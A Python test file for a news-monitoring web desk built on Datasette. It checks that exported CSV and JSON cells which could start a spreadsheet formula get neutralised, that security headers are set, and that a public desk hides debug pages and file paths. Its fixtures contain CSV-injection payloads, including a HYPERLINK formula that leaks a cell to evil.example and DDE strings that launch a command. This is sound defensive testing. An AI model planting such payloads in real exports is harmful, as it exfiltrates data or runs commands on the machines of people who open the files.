"""Exports that a spreadsheet cannot turn into formulas, security headers on every answer, and a
public desk without debug pages or file paths: through Datasette's own client."""

from __future__ import annotations

import asyncio
import csv
import io
import json

import pytest

from monitor.desk import safety
from monitor.desk import server as desk
from monitor.store import Store
from tests.test_desk import build_sample_db

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1, "Click for the full release")'
FORMULA_ITEM = {
    "id": "formula", "url": "https://ledger.example/2020/02/formula.html",
    "canonical_url": "https://ledger.example/2020/02/formula.html", "source": "ledger",
    "kind": "news", "title": FORMULA_TITLE, "text": "+cmd|' /C calc'!A0 was in the text.",
    "description": "@SUM(1+1)*cmd|' /C calc'!A0", "author": "-2+3+cmd|' /C calc'!A0",
    "site": "\tTAB", "language": "-", "published": "2020-02-01T10:00:00+00:00",
    "first_seen": "2020-02-01T10:00:00+00:00", "content_hash": "h-formula", "status": "live",
    "relevance": -0.5, "relevant": 0,
}
DANGEROUS = {"title": FORMULA_TITLE, "description": FORMULA_ITEM["description"],
             "author": FORMULA_ITEM["author"], "site": "\tTAB", "language": "-"}


def make_client(db, **options):
    ds = desk.build_datasette(db, **options)
    loop = asyncio.new_event_loop()
    loop.run_until_complete(ds.invoke_startup())

    def get(path: str):
        return loop.run_until_complete(ds.client.get(path))

    return get, loop


@pytest.fixture(scope="module")
def db(tmp_path_factory):
    path = build_sample_db(tmp_path_factory.mktemp("safety") / "monitor.db")
    with Store(path) as store, store.write() as conn:
        conn["items"].insert(FORMULA_ITEM)
    return path


@pytest.fixture(scope="module")
def client(db):
    get, loop = make_client(db)
    yield get
    loop.close()


@pytest.fixture(scope="module")
def public_client(db):
    get, loop = make_client(db, public=True, allow_sql=False)
    yield get
    loop.close()


# -- the rule -------------------------------------------------------------------------------


@pytest.mark.parametrize(("cell", "shown"), [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-", "'-"),
    ("-5", "-5"), ("+1.5", "+1.5"), ("-2e3", "-2e3"), ("plain", "plain"), ("", ""),
    ("a=1", "a=1"), (None, None), (-5, -5), (1.5, 1.5),
])
def test_a_cell_that_starts_a_formula_gets_a_quote(cell, shown):
    assert safety.neutralise_cell(cell) == shown


# -- exports --------------------------------------------------------------------------------


def test_csv_exports_neutralise_formulas(client):
    for path in ("/monitor/items.csv?id=formula", "/monitor/items.csv?id=formula&_dl=1",
                 "/monitor/items.csv?id=formula&_stream=on",
                 "/monitor/search.csv?q=hyperlink"):
        response = client(path)
        assert response.status_code == 200, path
        [row] = list(csv.DictReader(io.StringIO(response.text, newline="")))
        for column, value in DANGEROUS.items():
            if column in row:
                assert row[column] == "'" + value, (path, column)
        assert row["title"] == "'" + FORMULA_TITLE
        if "relevance" in row:
            assert row["relevance"] == "-0.5"  # a number stays a number
        assert int(response.headers["content-length"]) == len(response.content)


def test_json_exports_neutralise_formulas_and_stay_valid_json(client):
    [row] = client("/monitor/items.json?id=formula&_shape=array").json()
    for column, value in DANGEROUS.items():
        assert row[column] == "'" + value
    assert row["relevance"] == -0.5 and row["text"] == "'" + FORMULA_ITEM["text"]
    document = client("/monitor/items.json?id=formula").json()  # the default shape
    assert "'" + FORMULA_TITLE in document["rows"][0]
    lines = client("/monitor/items.json?id=formula&_shape=array&_nl=on").text.splitlines()
    assert json.loads(lines[0])["title"] == "'" + FORMULA_TITLE
    [found] = client("/monitor/search.json?q=hyperlink&_shape=array").json()
    assert found["title"] == "'" + FORMULA_TITLE


def test_pages_show_the_text_as_it_was_published(client):
    page = client("/-/item/formula").text
    assert "=HYPERLINK(&#34;http://evil.example" in page or "=HYPERLINK(&quot;" in page
    assert "'=HYPERLINK" not in page


def test_the_csv_debug_page_is_not_served(client):
    response = client("/monitor/items.csv?id=formula&_trace=1")
    assert response.status_code == 200
    assert not response.headers["content-type"].startswith("text/html")
    assert "<textarea" not in response.text


# -- headers --------------------------------------------------------------------------------


@pytest.mark.parametrize("path", ["/", "/monitor/items", "/monitor/items.json", "/monitor/items.csv",
                                  "/-/item/rel-ma", "/-/dashboards/operations", "/monitor/nope",
                                  "/-/static/app.css", "/monitor/new_relevant_items.atom"])
def test_every_answer_carries_the_security_headers(client, path):
    headers = client(path).headers
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["x-frame-options"] == "DENY"
    policy = headers["content-security-policy"]
    assert "default-src 'self'" in policy and "frame-ancestors 'none'" in policy
    assert "object-src 'none'" in policy and "connect-src 'self'" in policy


# -- a public desk --------------------------------------------------------------------------

DEBUG_PAGES = ["/-/versions", "/-/versions.json", "/-/databases.json", "/-/threads",
               "/-/threads.json", "/-/plugins.json", "/-/settings.json", "/-/config.json",
               "/-/metadata.json", "/-/actor.json", "/-/permissions", "/-/messages",
               "/-/allow-debug", "/-/patterns"]


@pytest.mark.parametrize("path", DEBUG_PAGES)
def test_a_public_desk_serves_no_debug_page(public_client, path):
    response = public_client(path)
    assert response.status_code == 404
    assert response.headers["x-frame-options"] == "DENY"


def test_a_local_desk_keeps_them_for_its_own_user(client):
    assert client("/-/versions.json").status_code == 200
    assert client("/-/databases.json").status_code == 200


def test_a_public_desk_shows_no_file_path(public_client, db):
    folder = str(db.parent)
    for path in ("/", "/monitor", "/monitor/items", "/monitor/items.json", "/-/item/rel-ma",
                 "/monitor/latest_operations.json", "/monitor/search?q=brockton",
                 "/monitor/items/rel-ma.json", "/monitor/nope", "/monitor/items?_sort=nope",
                 "/-/static/app.css"):
        response = public_client(path)
        assert response.status_code in (200, 400, 404), path
        assert folder not in response.text and str(db) not in response.text, path
    assert public_client("/-/item/rel-ma").status_code == 200
    assert public_client("/-/static/app.css").status_code == 200


def test_a_public_desk_serves_the_operations_pages(public_client, db):
    """The operations list and an operation page are the desk's own pages, linked from its
    menu: a public desk serves them like the item page (and shows no file path there)."""
    import sqlite3

    with sqlite3.connect(db) as conn:
        event_id = conn.execute("SELECT event_id FROM operations LIMIT 1").fetchone()[0]
    for path in ("/-/operations", f"/-/operation/{event_id}"):
        response = public_client(path)
        assert response.status_code == 200, path
        assert str(db.parent) not in response.text, path
